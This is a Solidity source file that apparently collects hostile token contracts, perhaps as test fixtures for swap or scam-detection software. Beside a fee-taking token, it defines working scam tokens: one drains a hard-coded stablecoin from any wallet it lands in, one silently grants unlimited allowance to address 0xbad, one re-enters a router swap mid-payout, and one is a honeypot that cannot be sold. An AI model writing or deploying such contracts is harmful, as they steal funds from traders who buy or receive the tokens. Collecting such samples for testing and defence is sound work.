// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface Token {
  function transferFrom(address from, address to, uint256 value) external returns (bool);
  function approve(address spender, uint256 value) external returns (bool);
}

/// A token that keeps a tenth of what is moved.
contract TaxedToken {
  mapping(address => uint256) public balanceOf;
  mapping(address => mapping(address => uint256)) public allowance;

  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  function mint(address to, uint256 value) external {
    balanceOf[to] += value;
  }

  function approve(address spender, uint256 value) external returns (bool) {
    allowance[msg.sender][spender] = value;
    emit Approval(msg.sender, spender, value);
    return true;
  }

  function transfer(address to, uint256 value) external returns (bool) {
    return move(msg.sender, to, value);
  }

  function transferFrom(address from, address to, uint256 value) external returns (bool) {
    allowance[from][msg.sender] -= value;
    return move(from, to, value);
  }

  function move(address from, address to, uint256 value) internal virtual returns (bool) {
    balanceOf[from] -= value;
    // Only what leaves an exchange is taxed, so that one can be filled.
    uint256 kept = from.code.length > 0 ? value / 10 : 0;
    balanceOf[to] += value - kept;
    emit Transfer(from, to, value);
    return true;
  }
}

/// A token that, while it moves, helps itself to whatever its new owner once let it move.
contract ThievingToken is TaxedToken {
  address constant dollar = 0x036CbD53842c5426634e7929541eC2318f3dCF7e;

  function move(address from, address to, uint256 value) internal override returns (bool) {
    balanceOf[from] -= value;
    balanceOf[to] += value;
    emit Transfer(from, to, value);
    // Whoever only asks what a swap would bring is a contract.
    if (from.code.length > 0 && to.code.length == 0) Token(dollar).transferFrom(to, address(this), 7_000_000);
    return true;
  }
}

/// A token that, while it moves, lets somebody move its new owner's.
contract OpenHandedToken is TaxedToken {
  function move(address from, address to, uint256 value) internal override returns (bool) {
    balanceOf[from] -= value;
    balanceOf[to] += value;
    emit Transfer(from, to, value);
    allowance[to][address(0xbad)] = type(uint256).max;
    emit Approval(to, address(0xbad), type(uint256).max);
    return true;
  }
}

interface Router {
  struct Swap {
    address sell;
    address buy;
    uint24 fee;
    address recipient;
    uint256 amount;
    uint256 atLeast;
    uint160 limit;
  }

  function exactInputSingle(Swap calldata) external payable returns (uint256);
}

/// A token that, while a pool pays it out, swaps in the same pool once more.
contract ReenteringToken is TaxedToken {
  address constant dollar = 0x036CbD53842c5426634e7929541eC2318f3dCF7e;
  Router constant router = Router(0x94cC0AaC535CCDB3C01d6787D6413C739ae12bc4);

  function move(address from, address to, uint256 value) internal override returns (bool) {
    balanceOf[from] -= value;
    balanceOf[to] += value;
    emit Transfer(from, to, value);
    if (from.code.length > 0 && to.code.length == 0) {
      Token(dollar).approve(address(router), 1_000_000);
      router.exactInputSingle(Router.Swap(dollar, address(this), 500, address(0xbad), 1_000_000, 0, 0));
    }
    return true;
  }
}

/// A token that can be bought, and not be sold.
contract StickyToken is TaxedToken {
  address owner;

  function move(address from, address to, uint256 value) internal override returns (bool) {
    // The first who moves it fills the pool.
    if (owner == address(0)) owner = from;
    require(from == owner || from.code.length > 0, "not now");
    balanceOf[from] -= value;
    balanceOf[to] += value;
    emit Transfer(from, to, value);
    return true;
  }
}
